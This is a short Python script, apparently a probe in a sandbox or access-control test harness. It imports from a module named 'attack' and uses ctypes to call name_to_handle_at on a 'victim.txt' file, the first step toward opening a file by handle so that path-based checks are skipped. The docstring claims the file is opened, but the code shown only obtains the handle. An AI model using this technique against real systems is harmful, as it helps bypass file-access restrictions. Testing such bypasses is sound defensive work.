"""Open a file by its number on the disk, where no path is looked at."""
import ctypes
from attack import HOME, attempt, right as solve
c = ctypes.CDLL(None, use_errno=True)
def read():
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(140))
    mount = ctypes.c_int()
    if c.name_to_handle_at(-100, f"{HOME}/victim.txt".encode(), handle, ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
attempt(read)
